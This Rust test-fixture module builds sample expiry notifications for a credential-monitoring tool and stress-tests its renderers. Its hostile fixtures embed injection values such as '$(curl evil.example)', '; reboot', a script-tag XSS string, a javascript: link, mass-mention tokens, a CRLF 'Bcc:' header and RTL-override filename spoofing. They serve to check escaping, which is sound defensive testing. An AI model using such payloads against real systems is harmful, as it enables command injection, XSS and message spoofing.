//! Notifications to try the words and the backends with: ordinary ones, and ones made to do harm.

pub(crate) mod changes;
mod digest;

use std::sync::Arc;

use chrono::{DateTime, TimeDelta, Utc};
use proptest::prelude::*;
use uuid::Uuid;

use super::Renderer;
use crate::domain::{
    Id, Kind, Notification, ObjectType, Row, Rung,
    audience::Audience,
    calendar::Calendar,
    facts::Cluster,
    notification::{Blindness, Subject},
    row::{Escalated, Links, RowSeverity},
    rung::days_left,
};

pub(crate) use digest::{all_is_well, digest, hostile_digest};

/// Tue 24 Nov 2026, 9 o'clock in Berlin.
pub(crate) fn now() -> DateTime<Utc> {
    "2026-11-24T08:00:00Z".parse().unwrap()
}

pub(crate) fn renderer() -> Renderer {
    Renderer::new(Calendar {
        timezone: chrono_tz::Europe::Berlin,
        ..Calendar::default()
    })
}

pub(crate) fn notification(subject: Subject) -> Notification {
    Notification {
        id: Uuid::from_u128(0x0193_5f00_0000_7000_8000_0000_0000_0001),
        subject,
        decided_at: now(),
        first_scan: false,
        stale: 0,
        escalation: false,
        audience: Audience::default(),
    }
}

pub(crate) fn due(alerts: Vec<Row>) -> Notification {
    let alerts = alerts.into_iter().map(Arc::new).collect();
    notification(Subject::Due { alerts })
}

/// Two that nobody has taken care of.
pub(crate) fn escalated() -> Notification {
    let left_alone = |row: Row, days, told: &[&str]| Row {
        reason: Some(format!("it was told as critical {days} days ago")),
        escalated: Some(Escalated {
            since: now() - TimeDelta::days(days),
            told: told.iter().map(|name| (*name).to_owned()).collect(),
        }),
        ..row
    };
    let expired = left_alone(row(1, "billing-api", "prod", -30), 4, &["ops-slack", "<b>"]);
    let critical = left_alone(row(2, "shop", "web", 80), 2, &["ops-slack", "platform"]);
    Notification {
        escalation: true,
        ..due(vec![expired, critical])
    }
}

/// A client secret of contoso that ends so many hours from [`now`].
pub(crate) fn row(number: u32, app: &str, name: &str, hours: i64) -> Row {
    let end = now() + TimeDelta::hours(hours);
    let left = days_left(end, now());
    let rung = [0u16, 1, 3, 7, 14, 30, 60]
        .into_iter()
        .find(|rung| i64::from(*rung) * 24 >= hours)
        .unwrap_or(60);
    let app_id = Uuid::from_u128(0xa000_0000_0000_4000_8000_0000_0000_0000 | u128::from(number));
    Row {
        tenant: "contoso".to_owned(),
        app_id: Id::Guid(app_id),
        object_id: Id::Guid(Uuid::from_u128(0x0b << 120 | u128::from(number))),
        object_type: ObjectType::Application,
        thumbprint: None,
        active: None,
        own: false,
        self_renewing: None,
        app_name: app.to_owned(),
        kind: Kind::ClientSecret,
        credential_id: Id::Guid(credential(number)),
        credential_name: Some(name.to_owned()).filter(|name| !name.is_empty()),
        hint: Some("x8Q".to_owned()),
        starts_at: Some(end - TimeDelta::days(365)),
        expires_at: Some(end),
        days_left: Some(left),
        severity: match left {
            ..0 => RowSeverity::Expired,
            0..=7 => RowSeverity::Critical,
            8..=30 => RowSeverity::Warning,
            _ => RowSeverity::Info,
        },
        superseded_by: None,
        newer: None,
        newer_name: None,
        newer_starts_at: None,
        rotation: None,
        owners: vec!["ada@contoso.com".to_owned()],
        ownerless: false,
        used_by: Vec::new(),
        last_used_at: None,
        unused: false,
        stale: false,
        section: None,
        last_working_day: None,
        escalated: None,
        rung: Some(Rung::days_before(rung)),
        reason: Some(match rung {
            0 => "it has run out".to_owned(),
            rung => format!("it has reached the {rung}-day threshold"),
        }),
        links: Some(Links {
            portal: format!(
                "https://entra.microsoft.com/#view/Microsoft_AAD_RegisteredApps/ApplicationMenuBlade/~/Credentials/appId/{app_id}/isMSAApp~/false"
            ),
            acknowledge: None,
        }),
    }
}

/// An AKS cluster in a resource group of the same name.
fn cluster(name: &str) -> Cluster {
    let subscription_id = Uuid::from_u128(0x5b << 120).to_string();
    Cluster {
        id: format!(
            "/subscriptions/{subscription_id}/resourceGroups/rg-{name}/providers/Microsoft.ContainerService/managedClusters/{name}"
        ),
        name: name.to_owned(),
        resource_group: format!("rg-{name}"),
        subscription_id,
        location: "westeurope".to_owned(),
    }
}

/// Secrets that clusters sign in with: one; one that is replaced; a principal's, of more clusters than are named; one of hostile clusters.
pub(crate) fn clusters() -> Notification {
    let one = Row {
        used_by: vec![cluster("aks-prod-weu")],
        ..row(1, "aks-prod", "aks-prod-weu", 6 * 24 + 1)
    };
    let replaced = Row {
        superseded_by: Some(Id::Guid(credential(91))),
        severity: RowSeverity::Info,
        ..one.clone()
    };
    let many = Row {
        object_type: ObjectType::ServicePrincipal,
        used_by: (1..=8).map(|n| cluster(&format!("aks-{n}"))).collect(),
        ..row(2, "aks-shared", "", 10 * 24 + 1)
    };
    let odd = Cluster {
        resource_group: "rg-größe(dr)".to_owned(),
        ..cluster("aks-dr")
    };
    let hostile = Cluster {
        name: "a\"; reboot; echo \"<!channel>`*".to_owned(),
        resource_group: "$(curl evil.example)\n<b>&\u{202E}".to_owned(),
        subscription_id: "; reboot".to_owned(),
        ..cluster("x")
    };
    let hostile = Row {
        used_by: vec![hostile, odd],
        ..row(3, "aks-odd", "", 20 * 24 + 1)
    };
    due(vec![one, replaced, many, hostile])
}

/// The key id of the row with this number.
pub(crate) fn credential(number: u32) -> Uuid {
    Uuid::from_u128(0xc000_0000_0000_4000_8000_0000_0000_0000 | u128::from(number))
}

/// One of each severity, each in another situation.
pub(crate) fn mixed() -> Notification {
    let expired = row(1, "payroll-sync", "", -50);
    let today = row(2, "billing-api", "prod", 5);
    let certificate = Row {
        kind: Kind::Certificate,
        hint: None,
        owners: Vec::new(),
        ownerless: true,
        ..row(
            3,
            "Warehouse Connector",
            "CN=warehouse.contoso.com",
            6 * 24 + 3,
        )
    };
    let newer = Row {
        newer: Some(Id::Guid(credential(90))),
        newer_name: Some("next <year>".to_owned()),
        last_used_at: Some(now() - TimeDelta::days(2)),
        stale: false,
        section: None,
        escalated: None,
        ..row(4, "hr-portal", "2025", 13 * 24 + 1)
    };
    let saml = Row {
        kind: Kind::SamlCertificate,
        hint: None,
        ..row(5, "Salesforce SSO", "", 29 * 24)
    };
    let superseded = Row {
        superseded_by: Some(Id::Guid(credential(91))),
        severity: RowSeverity::Info,
        ..row(6, "intranet-search", "old key", 2 * 24 + 2)
    };
    due(vec![expired, today, certificate, newer, saml, superseded])
}

/// What forewarn itself signs in with, among others.
pub(crate) fn own() -> Notification {
    let own = |row: Row| Row { own: true, ..row };
    due(vec![
        own(row(1, "forewarn", "own", -1)),
        own(row(2, "forewarn", "other", 13 * 24 + 1)),
        row(3, "billing-api", "prod", 3 * 24),
    ])
}

/// Everything that has ended.
pub(crate) fn expired() -> Notification {
    due(vec![
        row(1, "billing-api", "prod", -1),
        row(2, "billing-api", "staging", -20),
        row(3, "payroll-sync", "", -6 * 24),
    ])
}

pub(crate) fn resolved() -> Notification {
    let gone = Row {
        reason: Some("it was removed".to_owned()),
        ..row(1, "billing-api", "prod", 3 * 24)
    };
    let replaced = Row {
        superseded_by: Some(Id::Guid(credential(91))),
        reason: Some(format!(
            "it was replaced by {}; remove it once nothing uses it",
            credential(91)
        )),
        ..row(2, "hr-portal", "2025", -30)
    };
    notification(Subject::Resolved {
        alerts: vec![gone.into(), replaced.into()],
    })
}

/// So many rows, as a first scan finds them.
pub(crate) fn first_scan(rows: u32) -> Notification {
    let row = |number: u32| {
        let hours = i64::from(number) * 5 - 200;
        row(number, &format!("service-{number:03}"), "main", hours)
    };
    Notification {
        first_scan: true,
        stale: 600,
        ..due((0..rows).map(row).collect())
    }
}

pub(crate) fn failing() -> Notification {
    notification(Subject::Failing {
        tenant: "contoso".to_owned(),
        blindness: Blindness::Unreadable,
        problem: "Sign-in was refused: AADSTS7000222, the client secret of forewarn itself has \
            expired. Add a new one and update the secret file."
            .to_owned(),
        since: now() - TimeDelta::hours(6),
    })
}

pub(crate) fn recovered() -> Notification {
    notification(Subject::Recovered {
        blindness: Blindness::Unreadable,
        tenant: "contoso".to_owned(),
        note: "The last scan was complete: 2,000 apps. It had failed since 24 Nov 2026, 02:00."
            .to_owned(),
    })
}

pub(crate) fn receiver_failing() -> Notification {
    notification(Subject::ReceiverFailing {
        receiver: "ops-slack".to_owned(),
        error: "the receiver is no longer there: HTTP 404: no_service".to_owned(),
        given_up: true,
        since: now(),
    })
}

pub(crate) fn receiver_recovered() -> Notification {
    notification(Subject::ReceiverRecovered {
        receiver: "ops-slack".to_owned(),
        since: now() - TimeDelta::hours(6),
    })
}

pub(crate) fn skewed() -> Notification {
    notification(Subject::Failing {
        tenant: "contoso".to_owned(),
        blindness: Blindness::Skewed,
        problem: "The clock of forewarn's machine is 12 minutes behind Microsoft's.".to_owned(),
        since: now(),
    })
}

pub(crate) fn test() -> Notification {
    notification(Subject::Test {
        alerts: vec![row(1, "billing-api", "prod", 3 * 24 + 1).into()],
    })
}

/// Names that want to be markup, mentions, links, commands, other lines, or other names.
pub(crate) fn hostile() -> Notification {
    let markup = Row {
        owners: vec![
            "<@U123456>".to_owned(),
            "[x](https://evil.example)".to_owned(),
        ],
        hint: Some("`*_".to_owned()),
        ..row(
            1,
            "<!channel> *bold* _it_ ~no~ `code` <https://evil.example|Sign in>",
            "[click](https://evil.example) **b** <at>Ada</at> {{DATE(2020-01-01T00:00:00Z)}}",
            3,
        )
    };
    let lines = Row {
        app_id: Id::parse("$(reboot)"),
        ..row(
            2,
            "@here\r\nBcc: all@contoso.com\r\n\r\n> quoted",
            "user\u{202E}txt.exe\u{2066}\u{200B}",
            30,
        )
    };
    let endless = Row {
        owners: vec!["&".repeat(300); 12],
        tenant: "\"><script>alert(1)</script>".to_owned(),
        links: Some(Links {
            portal: "javascript:alert(1)".to_owned(),
            acknowledge: None,
        }),
        reason: Some("<".repeat(2_000)),
        ..row(3, &"&<>".repeat(100), &"&".repeat(256), 7 * 24)
    };
    let nameless = row(4, "\u{200B}\n", "\u{3164}", 8 * 24);
    due(vec![markup, lines, endless, nameless])
}

/// Any text, with a liking for what one channel or another would take as its own.
fn text() -> impl Strategy<Value = String> {
    let special = prop::sample::select(vec![
        "<!channel>",
        "@here",
        "*",
        "_",
        "~",
        "`",
        "```",
        "&",
        "<",
        ">",
        "|",
        "\"",
        "\\",
        "\n",
        "\u{202E}",
        "\u{200B}",
        "{{",
        "](",
        "[",
        "#",
        "1.",
        ":x:",
        "\u{1F511}",
        "日本",
        "\0",
    ]);
    let piece = prop_oneof![
        special.prop_map(str::to_owned),
        any::<String>(),
        "[a-z]{1,12}"
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

fn any_row() -> impl Strategy<Value = Row> {
    let names = (text(), prop::option::of(text()), prop::option::of(text()));
    let hostile = (text(), text()).prop_map(|(name, resource_group)| Cluster {
        name,
        resource_group,
        ..cluster("x")
    });
    let plain = "[a-z]{60}".prop_map(|name| cluster(&name));
    let clusters = prop::collection::vec(prop_oneof![hostile, plain], 0..9);
    let lists = (prop::collection::vec(text(), 0..7), clusters, text());
    let shape = (
        -400i64..2_000,
        0..Kind::ALL.len(),
        any::<bool>(),
        any::<bool>(),
    );
    (names, lists, shape).prop_map(
        |((app, name, hint), (owners, used_by, reason), (hours, kind, odd_id, superseded))| {
            let base = row(0, &app, "", hours);
            Row {
                kind: Kind::ALL[kind],
                credential_name: name,
                hint,
                app_id: if odd_id {
                    Id::parse(&reason)
                } else {
                    base.app_id.clone()
                },
                superseded_by: superseded.then(|| Id::Guid(credential(99))),
                owners,
                used_by,
                reason: Some(reason),
                ..base
            }
        },
    )
}

/// Up to thirty rows of anything, each with a credential id of its own.
pub(crate) fn anything() -> impl Strategy<Value = Notification> {
    let rows = prop::collection::vec(any_row(), 1..30);
    (rows, any::<bool>()).prop_map(|(mut rows, first_scan)| {
        for (number, row) in (0..).zip(&mut rows) {
            row.credential_id = Id::Guid(credential(number + 1_000));
        }
        Notification {
            first_scan,
            ..due(rows)
        }
    })
}
